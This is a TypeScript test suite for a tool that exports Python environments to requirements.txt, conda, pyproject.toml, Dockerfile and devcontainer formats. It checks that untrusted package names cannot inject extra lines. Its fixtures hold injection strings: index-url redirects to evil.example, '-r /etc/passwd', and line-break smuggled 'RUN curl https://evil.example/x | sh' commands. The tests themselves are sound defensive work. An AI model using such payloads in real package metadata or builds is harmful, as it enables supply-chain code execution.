/**
 * A recorded environment is untrusted (a teammate's, pulled from a remote): whatever its package
 * names and versions hold, no export format may turn them into a live line, option or instruction.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DockerfileParser } from 'dockerfile-ast';
import { parse as parseYaml } from 'yaml';
import type { PackageInfo } from '../domain';
import { environment } from './environments.testkit';
import { exportEnvironment, EXPORT_FORMATS } from './index';

const SITE = '/home/dev/proj/.venv/lib/python3.11/site-packages';

/** Names (and versions) meant to escape their line, each with the live text it tries to smuggle in. */
const HOSTILE_NAMES = [
  '--index-url=https://evil.example/simple',
  '--extra-index-url https://evil.example/simple',
  '-r /etc/passwd',
  '-e git+https://evil.example/x.git#egg=x',
  'numpy\nRUN curl https://evil.example/x | sh',
  'numpy\r\n--trusted-host evil.example',
  'numpy\u0085--index-url=https://evil.example/nel',
  'numpy\u001c--index-url=https://evil.example/fs',
  'numpy\u2028RUN curl https://evil.example/ls | sh',
  'numpy\u000b--index-url=https://evil.example/vt',
  'numpy\u000c--index-url=https://evil.example/ff',
  'x"]\ndependencies = ["evil @ https://evil.example/x.whl',
  'x\n  - evil @ https://evil.example/y.whl',
];

function hostileEnv() {
  const packages: PackageInfo[] = [
    ...HOSTILE_NAMES.map((name) => ({ name, version: '1.0', installer: 'pip', location: SITE })),
    { name: 'safe-name', version: '1.0\nRUN curl https://evil.example/v | sh', installer: 'pip', location: SITE },
    { name: 42, version: '1.0', location: SITE } as unknown as PackageInfo,
    { name: 'attrs', version: { evil: true }, location: SITE } as unknown as PackageInfo,
    { name: 'numpy', version: '1.26.4', installer: 'pip', location: SITE },
  ];
  return environment('/home/dev/proj/.venv/bin/python', '3.11.9', packages);
}

/** Where Python's `str.splitlines()` (pip's reader of requirements files) breaks lines. */
const PYTHON_LINE_BREAKS = /\r\n|[\n\r\u000b\u000c\u001c\u001d\u001e\u0085\u2028\u2029]/;
/** Control characters and separators no generated file may hold but its line feeds. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function fileOf(format: (typeof EXPORT_FORMATS)[number], path: string): string {
  const file = exportEnvironment(hostileEnv(), format).files.find((f) => f.path === path);
  assert.ok(file, `${format} writes ${path}`);
  assert.doesNotMatch(file.content, UNSAFE, `${path} holds a raw control character`);
  return file.content;
}

test('hostile records: every pin but the good one is flagged, under a name safe to show', () => {
  for (const format of EXPORT_FORMATS) {
    const { flagged } = exportEnvironment(hostileEnv(), format);
    assert.equal(flagged.length, HOSTILE_NAMES.length + 3, format);
    for (const pin of flagged) assert.doesNotMatch(pin.name, UNSAFE, pin.name);
    assert.equal(flagged.filter((p) => p.problem?.kind === 'invalid-name').length, HOSTILE_NAMES.length + 2);
  }
});

test('hostile records, requirements.txt: no option line, and the only requirement is the good pin', () => {
  const text = fileOf('requirements', 'requirements.txt');
  const lines = text.split(PYTHON_LINE_BREAKS).map((l) => l.trim());
  assert.deepEqual(
    lines.filter((l) => l.startsWith('-')),
    [],
  );
  assert.deepEqual(
    lines.filter((l) => l !== '' && !l.startsWith('#')),
    ['numpy==1.26.4'],
  );
});

test('hostile records, environment.yml: still YAML, and pip gets only the good pin', () => {
  const text = fileOf('conda', 'environment.yml');
  const file = parseYaml(text) as { name: string; dependencies: (string | { pip: string[] })[] };
  assert.deepEqual(file.dependencies, ['python=3.11', 'pip', { pip: ['numpy==1.26.4'] }]);
  // YAML 1.1 readers break lines at NEL and the Unicode separators too: nothing there either.
  for (const line of text.split(/\r\n|[\n\r\u0085\u2028\u2029]/)) {
    assert.match(line, /^(?:name: mlsnap-env|dependencies:|  - python=3\.11|  - pip:?|    - numpy==1\.26\.4|\s*#.*|)$/);
  }
});

/** Enough of TOML to check what the generator writes: every line one it may write, every string well formed. */
function checkToml(text: string): { dependencies: string[] } {
  const basicString = String.raw`"(?:[^"\\\u0000-\u001f\u007f]|\\(?:[btnfr"\\]|u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}))*"`;
  const value = `(?:${basicString}|true|false|-?\\d+|\\[|\\{ index = ${basicString} \\})`;
  const linePatterns = [
    /^$/,
    /^\s*#[^\u0000-\u0008\u000a-\u001f\u007f]*$/,
    /^\[\[?[A-Za-z0-9_.-]+\]\]?$/,
    new RegExp(`^(?:[A-Za-z0-9_-]+|${basicString}) = ${value}$`),
    new RegExp(`^  ${basicString},$`),
    /^\]$/,
  ];
  const dependencies: string[] = [];
  let inDependencies = false;
  for (const line of text.split('\n')) {
    assert.ok(
      linePatterns.some((re) => re.test(line)),
      `not a TOML line the generator writes: ${JSON.stringify(line)}`,
    );
    if (line === 'dependencies = [') inDependencies = true;
    else if (line === ']') inDependencies = false;
    else if (inDependencies && !line.trim().startsWith('#')) {
      dependencies.push(JSON.parse(line.trim().replace(/,$/, '')) as string);
    }
  }
  assert.equal(inDependencies, false, 'the dependencies array is closed');
  return { dependencies };
}

test('hostile records, pyproject.toml: still TOML, and the only dependency is the good pin', () => {
  const text = fileOf('uv', 'pyproject.toml');
  assert.deepEqual(checkToml(text).dependencies, ['numpy==1.26.4']);
  assert.equal(text.match(/^dependencies = \[$/gm)?.length, 1);
});

function checkDockerfile(text: string): void {
  const instructions = DockerfileParser.parse(text).getInstructions();
  // The same instructions as for the good pin alone: nothing smuggled in.
  const clean = DockerfileParser.parse(exportEnvironment(goodOnly(), 'dockerfile').files[0]?.content ?? '')
    .getInstructions()
    .map((i) => i.getKeyword());
  assert.deepEqual(
    instructions.map((i) => i.getKeyword()),
    clean,
  );
  const runs = instructions.filter((i) => i.getKeyword() === 'RUN').map((i) => i.getArgumentsContent() ?? '');
  assert.equal(runs.length, 2, runs.join('\n'));
  assert.ok(
    runs.every((r) => !/evil/.test(r)),
    runs.join('\n'),
  );
  assert.match(runs[1] ?? '', /'numpy==1\.26\.4'$/);
  // Docker reads a line break (and a carriage return) as the end of a line, whatever the quotes.
  for (const line of text.split(/\r\n|[\n\r]/)) {
    if (/evil/.test(line)) assert.match(line, /^#/, line);
  }
}

function goodOnly() {
  return environment('/home/dev/proj/.venv/bin/python', '3.11.9', [
    { name: 'numpy', version: '1.26.4', installer: 'pip', location: SITE },
  ]);
}

test('hostile records, Dockerfile: comments only, no extra RUN', () => {
  checkDockerfile(fileOf('dockerfile', 'Dockerfile'));
});

test('hostile records, devcontainer: the JSON parses and its Dockerfile has no extra RUN', () => {
  const config = JSON.parse(fileOf('devcontainer', '.devcontainer/devcontainer.json')) as {
    build: { dockerfile: string };
  };
  assert.equal(config.build.dockerfile, 'Dockerfile');
  checkDockerfile(fileOf('devcontainer', '.devcontainer/Dockerfile'));
});

test('hostile conda packages stay quoted YAML scalars', () => {
  const env = goodOnly();
  env.conda = {
    prefix: '/opt/conda',
    packages: [
      { name: 'numpy\n  - evil\u0085x\u2028y\u007f', version: '1.26.4', channel: 'conda-forge' },
      { name: 42, version: null } as unknown as { name: string; version: string },
    ],
  };
  const withConda = exportEnvironment(env, 'conda').files[0]?.content ?? '';
  assert.doesNotMatch(withConda, UNSAFE);
  const file = parseYaml(withConda) as { dependencies: unknown[] };
  // The hostile name is one string, its line breaks kept inside it: no extra entry.
  assert.deepEqual(
    file.dependencies.slice(0, 2).sort(),
    ['42=null', 'conda-forge::numpy\n  - evil\u0085x\u2028y\u007f=1.26.4'].sort(),
  );
  assert.deepEqual(file.dependencies.slice(2), ['pip', { pip: ['numpy==1.26.4'] }]);
});
